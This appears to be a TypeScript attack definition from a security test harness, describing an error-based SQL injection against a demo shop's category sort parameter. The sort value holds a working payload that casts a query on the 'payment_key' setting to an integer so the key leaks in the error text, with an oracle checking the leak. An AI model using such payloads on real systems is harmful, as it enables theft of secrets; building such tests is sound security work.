import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Reads the payment key from an error message of the sort order. */
export const sqlOrderError: Attack = defineAttack({
  id: 'sql-order-error',
  class: 'sql-injection',
  title: 'Reads the payment key from an error message of the sort order',
  cwe: 209,
  capec: 54,
  technique: 'T1190',
  preconditions: [],

  steps: ({ visitor }) => {
    const sort = "CAST((SELECT value FROM settings WHERE key='payment_key') AS int)"
    return visitor.get(`/category/tents${query({ sort })}`)
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.get(`/category/tents${query({ sort: 'price_cents DESC' })}`),
})
